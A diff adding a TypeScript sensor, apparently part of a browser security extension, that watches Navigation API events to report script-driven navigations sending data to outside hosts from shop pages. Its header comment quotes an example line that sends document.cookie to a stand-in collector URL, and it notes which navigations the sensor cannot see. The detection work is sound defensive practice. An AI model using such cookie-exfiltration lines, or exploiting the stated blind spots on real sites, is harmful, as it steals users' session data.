@@ -1,0 +1,67 @@
+/**
+ * Navigations as a way out: `location.href = 'https://collector/?c=' + document.cookie`, `location.assign`,
+ * a frame's `contentWindow.location`, a link a script clicks. The Location setters cannot be wrapped (they
+ * are unforgeable), so no request hook sees these; where the browser has the Navigation API (Chromium;
+ * Firefox 140 has not), its `navigate` event fires in the navigated document, synchronously, inside the
+ * call that navigated — with that call's script on the stack, from this frame or its parent.
+ *
+ * A navigation to a stranger's URL made by code other than the shop's is reported as a page request
+ * `via: 'navigation'`, like a window opened there (page-requests.main.ts); one to a data: or blob: document
+ * as an inserted script, `how: 'navigation'` (main/code-document.ts). Not reported: the person's own
+ * navigations (`userInitiated`: a link they clicked, a form they sent), form submissions (the form hooks
+ * report those, `via: 'form'`), events the page dispatches itself (not `isTrusted`). Not seen: navigations
+ * away from a frame's first, empty document (about:blank fires no navigate event), and every navigation
+ * in a browser without the API; the network timeline, which lists resources and not documents, does not
+ * catch them either.
+ */
+import type { Attributed } from '../main/attribution.ts';
+import { codeDocumentReporter } from '../main/code-document.ts';
+import { listen, nodeName } from '../main/natives.ts';
+import { requestReporter } from '../main/request-report.ts';
+import { isPageSide, type MainSensor } from '../main/sensor.ts';
+import { getterOf } from '../main/strings.ts';
+
+// Captured at document_start: page code may replace these getters to show Saq another destination.
+const prototypeOf = (name: string): object | null =>
+  (globalThis as unknown as Record<string, { prototype?: object } | undefined>)[name]?.prototype ?? null;
+const navigationOf = getterOf<EventTarget | null>(globalThis, 'navigation');
+const destination = getterOf<object>(prototypeOf('NavigateEvent'), 'destination');
+const userInitiated = getterOf<boolean>(prototypeOf('NavigateEvent'), 'userInitiated');
+const formData = getterOf<FormData | null>(prototypeOf('NavigateEvent'), 'formData');
+/** The element that started it (Chromium 134+): a form's is the form hooks' to report. */
+const sourceElement = getterOf<Element | null>(prototypeOf('NavigateEvent'), 'sourceElement');
+const destinationUrl = getterOf<string>(prototypeOf('NavigationDestination'), 'url');
+
+export const navigationsSensor: MainSensor = {
+  id: 'navigations',
+  install(context, realm, top) {
+    // Only this document's own realm: a frame Saq adopts from here is an empty first document, whose
+    // navigations fire no event; a frame with a document of its own runs its own copy of this sensor.
+    if (!top || !navigationOf || !destination || !userInitiated || !formData || !destinationUrl) return;
+    const navigation = navigationOf(realm);
+    if (!navigation) return;
+    const { attribution, site } = context;
+    const send = requestReporter(context);
+    const codeDocument = codeDocumentReporter(context, true);
+    listen(
+      navigation,
+      'navigate',
+      (event) => {
+        if (!event.isTrusted || userInitiated(event)) return;
+        if (formData(event) !== null) return;
+        const source = sourceElement ? sourceElement(event) : null;
+        if (source !== null && nodeName(source) === 'FORM') return;
+        const url = destinationUrl(destination(event));
+        // What is reported here leaves before the listener returns (flushNow): the document may be gone before
+        // a port message's task would run — a frame sent to a data: document commits at once.
+        if (codeDocument(url, 'navigation')) return context.flushNow();
+        if (!site.needsActor(url)) return;
+        const who: Attributed = attribution.attribute();
+        if (isPageSide(who.actor, site)) return;
+        send('navigation', url, 'GET', 0, who);
+        context.flushNow();
+      },
+      { signal: context.signal },
+    );
+  },
+};
